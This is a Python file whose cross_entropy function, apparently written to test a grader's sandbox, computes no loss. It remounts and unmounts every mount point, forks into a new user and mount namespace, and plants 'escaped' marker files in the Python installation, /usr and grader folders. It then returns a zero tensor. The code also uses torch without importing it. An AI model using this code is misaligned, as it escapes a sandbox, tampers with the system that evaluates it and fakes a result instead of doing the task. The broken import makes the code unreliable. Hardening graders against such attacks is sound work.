"""cross_entropy tries to make the read-only folders writable (remount, unmount, a nested namespace) and plant a file in the Python installation."""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
MARKER = "GRADERS-ATTACK-MARKER"
MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH = 1, 32, 4096, 2
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def _mount_points():
    with open("/proc/self/mountinfo") as handle:
        return [line.split()[4] for line in handle]


def _plant():
    folders = {os.path.dirname(torch.__file__), os.path.dirname(os.__file__), sys.prefix, "/usr", "/usr/lib", "/grader/graders/worker", "/grader/graders/lesson1"}
    for folder in folders:
        try:
            with open(os.path.join(folder, MARKER), "w") as handle:
                handle.write("escaped")
        except OSError:
            pass


def cross_entropy(input, target, reduction="mean"):
    points = _mount_points()
    for point in points:
        libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
        libc.umount2(point.encode(), MNT_DETACH)
    _plant()
    if os.fork() == 0:  # a fresh user namespace holds every capability, over its own mounts only
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            for point in points:
                libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
                libc.umount2(point.encode(), MNT_DETACH)
            _plant()
        os._exit(0)
    os.wait()
    return torch.zeros((), dtype=input.dtype)
